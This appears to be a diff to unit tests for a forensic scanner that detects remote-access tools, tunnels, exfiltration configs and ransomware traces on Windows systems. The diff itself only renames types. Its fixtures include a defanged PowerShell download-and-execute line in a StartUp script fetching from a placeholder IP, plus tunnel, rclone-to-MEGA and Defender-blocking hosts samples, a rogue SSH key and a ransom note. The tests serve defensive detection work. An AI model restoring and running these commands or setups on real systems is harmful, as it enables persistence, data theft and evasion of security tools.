@@ -24,32 +24,32 @@ static void test_programs(void **state)
     go(b, "ProgramData/Tools/upd.exe", "path\tgithub.com/rclone/rclone\nmod\tgithub.com/rclone/rclone\tv1.53\t\n", 4096, 16384);
     go(b, "ProgramData/Tools/own.exe", "path\texample.org/own/tool\n", 4096, 16384);
     bench_hunt(b);
-    const struct fact *f = bench_find(b, FACT_WAY_BACK, "files/remote-tool", "C:\\ProgramData\\svchost.exe");
+    const struct file_fact *f = bench_find(b, FILE_FACT_WAY_BACK, "files/remote-tool", "C:\\ProgramData\\svchost.exe");
     CHECK(f && str_eq(f->what, STR("tunnel")) && str_eq(f->name, STR("frp")) && f->state == THING_PRESENT);
-    CHECK(bench_find(b, FACT_NOTE, "files/remote-tool", "frpc.exe"));
-    CHECK(bench_find(b, FACT_WAY_BACK, "files/remote-tool", "agent.exe"));
-    CHECK(bench_find(b, FACT_NOTE, "files/remote-tool", "rclone.exe") && bench_find(b, FACT_TOOL, "files/remote-tool", "upd.exe"));
+    CHECK(bench_find(b, FILE_FACT_NOTE, "files/remote-tool", "frpc.exe"));
+    CHECK(bench_find(b, FILE_FACT_WAY_BACK, "files/remote-tool", "agent.exe"));
+    CHECK(bench_find(b, FILE_FACT_NOTE, "files/remote-tool", "rclone.exe") && bench_find(b, FILE_FACT_TOOL, "files/remote-tool", "upd.exe"));
     CHECK(bench_count(b, "files/remote-tool") == 5);
 }
 
 static void test_settings(void **state)
 {
-    static const struct { const char *path, *body; enum fact_kind kind; const char *words; } cases[] = {
-        { "Users/Public/frpc.ini", "[common]\nserver_addr = 198.51.100.9\n", FACT_WAY_BACK, "198.51.100.9" },
-        { "Tools/frp/frpc.toml", "serverAddr = \"gate.example.org\"\nserverPort = 7000\n", FACT_NOTE, "gate.example.org" },
-        { "Windows/System32/config/systemprofile/AppData/Local/ngrok/ngrok.yml", "authtoken: 2abc\ntunnels:\n  r:\n    proto: tcp\n    addr: 3389\n", FACT_WAY_BACK, "ngrok" },
-        { "Users/a/.cloudflared/config.yml", "tunnel: 17\ningress:\n  - hostname: a.example.org\n", FACT_NOTE, "a.example.org" },
-        { "ProgramData/AnyDesk/connection_trace.txt", "Incoming  2021-03-05, 11:20  User  123  123\n", FACT_NOTE, "123" },
-        { "Program Files (x86)/ScreenConnect Client (0123456789abcdef)/system.config", "<value>?y=Guest&amp;h=old&h=relay.example.org&p=443</value>", FACT_NOTE, "relay.example.org" },
-        { "Program Files/Mesh Agent/MeshAgent.msh", "MeshName=x\nMeshServer=wss://m.example.org:443/agent.ashx\n", FACT_NOTE, "m.example.org" },
-        { "ProgramData/ssh/administrators_authorized_keys", "ssh-ed25519 AAAAC3 someone-elsewhere\n", FACT_NOTE, "someone-elsewhere" },
-        { "Windows/System32/drivers/etc/hosts", "127.0.0.1 localhost\n0.0.0.0 definitionupdates.microsoft.com\n", FACT_NOTE, "definitionupdates" },
-        { "ProgramData/rclone.conf", "[x]\ntype = mega\nuser = u\npass = secret17\n", FACT_NOTE, "mega" },
-        { "Windows/PSEXEC-WS17-0A1B2C3D.key", "x", FACT_NOTE, "PSEXEC-WS17" },
-        { "how_to_decrypt.txt", "All your files are encrypted. Payment in bitcoin. Use the Tor Browser and your personal ID.", FACT_RANSOM, "how_to_decrypt" },
-        { "ProgramData/COM1/x.dll", "MZ", FACT_NOTE, "COM1" },
-        { "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/a.cmd", "@echo off\npowers@hell -nop -c I@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.1/')\n", FACT_WAY_BACK, "a.cmd" },
-        { "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/b.exe", "MZ", FACT_NOTE, "b.exe" },
+    static const struct { const char *path, *body; enum file_fact_kind kind; const char *words; } cases[] = {
+        { "Users/Public/frpc.ini", "[common]\nserver_addr = 198.51.100.9\n", FILE_FACT_WAY_BACK, "198.51.100.9" },
+        { "Tools/frp/frpc.toml", "serverAddr = \"gate.example.org\"\nserverPort = 7000\n", FILE_FACT_NOTE, "gate.example.org" },
+        { "Windows/System32/config/systemprofile/AppData/Local/ngrok/ngrok.yml", "authtoken: 2abc\ntunnels:\n  r:\n    proto: tcp\n    addr: 3389\n", FILE_FACT_WAY_BACK, "ngrok" },
+        { "Users/a/.cloudflared/config.yml", "tunnel: 17\ningress:\n  - hostname: a.example.org\n", FILE_FACT_NOTE, "a.example.org" },
+        { "ProgramData/AnyDesk/connection_trace.txt", "Incoming  2021-03-05, 11:20  User  123  123\n", FILE_FACT_NOTE, "123" },
+        { "Program Files (x86)/ScreenConnect Client (0123456789abcdef)/system.config", "<value>?y=Guest&amp;h=old&h=relay.example.org&p=443</value>", FILE_FACT_NOTE, "relay.example.org" },
+        { "Program Files/Mesh Agent/MeshAgent.msh", "MeshName=x\nMeshServer=wss://m.example.org:443/agent.ashx\n", FILE_FACT_NOTE, "m.example.org" },
+        { "ProgramData/ssh/administrators_authorized_keys", "ssh-ed25519 AAAAC3 someone-elsewhere\n", FILE_FACT_NOTE, "someone-elsewhere" },
+        { "Windows/System32/drivers/etc/hosts", "127.0.0.1 localhost\n0.0.0.0 definitionupdates.microsoft.com\n", FILE_FACT_NOTE, "definitionupdates" },
+        { "ProgramData/rclone.conf", "[x]\ntype = mega\nuser = u\npass = secret17\n", FILE_FACT_NOTE, "mega" },
+        { "Windows/PSEXEC-WS17-0A1B2C3D.key", "x", FILE_FACT_NOTE, "PSEXEC-WS17" },
+        { "how_to_decrypt.txt", "All your files are encrypted. Payment in bitcoin. Use the Tor Browser and your personal ID.", FILE_FACT_RANSOM, "how_to_decrypt" },
+        { "ProgramData/COM1/x.dll", "MZ", FILE_FACT_NOTE, "COM1" },
+        { "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/a.cmd", "@echo off\npowers@hell -nop -c I@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.1/')\n", FILE_FACT_WAY_BACK, "a.cmd" },
+        { "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/b.exe", "MZ", FILE_FACT_NOTE, "b.exe" },
     };
     struct bench *b = *state;
 
